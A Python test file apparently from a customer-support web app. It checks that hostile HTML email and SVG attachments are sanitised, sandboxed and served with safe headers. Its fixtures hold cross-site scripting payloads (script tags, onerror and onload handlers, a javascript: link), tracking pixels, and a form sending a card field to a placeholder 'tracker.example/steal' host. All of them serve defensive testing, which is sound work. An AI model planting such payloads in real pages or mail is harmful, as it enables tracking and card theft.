"""Hostile customer mail shown to a VA runs nothing and loads nothing (RELIABILITY WEB-5),
and attachments are evidence: common images previewed, everything else downloaded."""

from __future__ import annotations

import base64
from email.message import EmailMessage

from tests.web.conftest import VA, browser_login

HOSTILE = """<html><head><title>t</title><style>body{background:url(http://tracker.example/css.gif)}</style>
<script>alert(1)</script></head><body>
<p>Hello, order <b>#1005</b> never arrived. Please refund me.</p>
<img src=x onerror=alert(2)>
<svg onload=alert(3)><circle r="4"/></svg>
<a href="javascript:alert(4)">see my order</a>
<img src="http://tracker.example/p.gif" width="1" height="1">
<iframe src="http://tracker.example/frame"></iframe>
<form action="http://tracker.example/steal"><input name="card"></form>
<p style="background-image:url(http://tracker.example/bg.gif)">Thanks, Mallory</p>
</body></html>"""
# A PNG of one pixel.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"><script>alert(6)</script></svg>'


def html_mail(*, attach: bool = False) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@example.com>"
    msg["To"] = "Acme Support <support@acme.example>"
    msg["Subject"] = "Refund for order #1005"
    msg["Date"] = "Fri, 20 Nov 2026 09:00:00 +0000"
    msg["Message-ID"] = "<hostile-1@example.com>"
    msg.set_content("Hello, order #1005 never arrived. Please refund me.\n\nMallory")
    msg.add_alternative(HOSTILE, subtype="html")
    if attach:
        msg.add_attachment(PNG, maintype="image", subtype="png", filename="cracked.png")
        msg.add_attachment(b"%PDF-1.4\n%fake\n", maintype="application", subtype="pdf",
                           filename="receipt.pdf")  # fmt: skip
        msg.add_attachment(SVG, maintype="image", subtype="svg+xml", filename="photo.svg")
    return bytes(msg)


def test_hostile_mail_html_runs_nothing_and_loads_nothing(web, page):
    """GIVEN a customer mail whose HTML carries script, event handlers, SVG, a javascript:
    link, a remote image, an iframe and a form
    WHEN a VA opens its draft in Chromium
    THEN no dialog opens, and every request the page and its frames make goes to inboxbot."""
    (draft_id,) = web.ingest([html_mail()])
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    page.on("popup", lambda popup: requests.append("popup:" + popup.url))
    browser_login(page, web, VA)

    page.goto(f"{web.url}/drafts/{draft_id}")
    frame = page.frame_locator("iframe.mail-frame")
    frame.get_by_text("never arrived").wait_for()
    frame.get_by_text("see my order").click()
    page.wait_for_load_state("networkidle")

    assert dialogs == []
    assert requests, "the page made no requests at all?"
    assert [url for url in requests if not url.startswith(web.url + "/")] == []
    assert not any("tracker" in url or url.endswith("/x") for url in requests)
    assert page.locator("iframe.mail-frame").get_attribute("sandbox") == ""


def test_the_mail_frame_is_served_sanitised_with_its_own_sandbox_policy(web):
    (draft_id,) = web.ingest([html_mail()])
    client = web.client(VA)

    response = client.get(f"/drafts/{draft_id}/mail")

    assert response.status_code == 200
    assert response.headers["Content-Security-Policy"] == (
        "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; "
        "frame-ancestors 'self'"
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = response.text.lower()
    for gone in ("<script", "alert(", "onerror", "onload", "<svg", "javascript:", "tracker",
                 "<iframe", "<form"):  # fmt: skip
        assert gone not in body
    assert "never arrived" in body


def test_a_text_only_mail_is_shown_as_text_without_a_frame(web):
    from tests.mailgen import customer_mail

    (draft_id,) = web.ingest([customer_mail(1, body="<script>alert(1)</script> & co")])
    client = web.client(VA)

    html = client.get(f"/drafts/{draft_id}").text

    assert "mail-frame" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co" in html
    assert client.get(f"/drafts/{draft_id}/mail").status_code == 404


def test_an_image_attachment_is_previewed_and_a_pdf_is_downloaded(web, page):
    (draft_id,) = web.ingest([html_mail(attach=True)])
    browser_login(page, web, VA)
    page.goto(f"{web.url}/drafts/{draft_id}")

    preview = page.get_by_role("img", name="cracked.png")
    preview.wait_for()
    page.wait_for_function("document.querySelector('.attachments img').complete")
    width = preview.evaluate("img => img.naturalWidth")
    with page.expect_download() as download:
        page.get_by_role("link", name="receipt.pdf").click()

    assert width == 1
    assert download.value.suggested_filename == "receipt.pdf"
    assert page.get_by_role("img", name="photo.svg").count() == 0


def test_attachments_carry_nosniff_a_sandbox_policy_and_the_right_disposition(web):
    (draft_id,) = web.ingest([html_mail(attach=True)])
    client = web.client(VA)
    html = client.get(f"/drafts/{draft_id}").text
    links = {
        name: f"/drafts/{draft_id}/attachments/{number}"
        for number, name in enumerate(("cracked.png", "receipt.pdf", "photo.svg"), start=1)
    }
    assert all(link in html for link in links.values())

    answers = {name: client.get(link) for name, link in links.items()}

    for response in answers.values():
        assert response.status_code == 200
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"].startswith("sandbox;")
    png, pdf, svg = answers["cracked.png"], answers["receipt.pdf"], answers["photo.svg"]
    assert png.headers["Content-Type"] == "image/png"
    assert png.headers["Content-Disposition"].startswith("inline;")
    assert png.content == PNG
    assert pdf.headers["Content-Disposition"] == "attachment; filename*=UTF-8''receipt.pdf"
    assert pdf.headers["Content-Type"] == "application/octet-stream"
    assert svg.headers["Content-Disposition"].startswith("attachment;")
    assert svg.headers["Content-Type"] == "application/octet-stream"


def test_an_attachment_is_only_reachable_through_its_own_draft(web):
    from tests.mailgen import customer_mail

    with_files, other = web.ingest([html_mail(attach=True), customer_mail(2)])
    client = web.client(VA)

    assert client.get(f"/drafts/{with_files}/attachments/1").status_code == 200
    assert client.get(f"/drafts/{other}/attachments/1").status_code == 404
    assert web.client().get(f"/drafts/{with_files}/attachments/1").status_code == 303
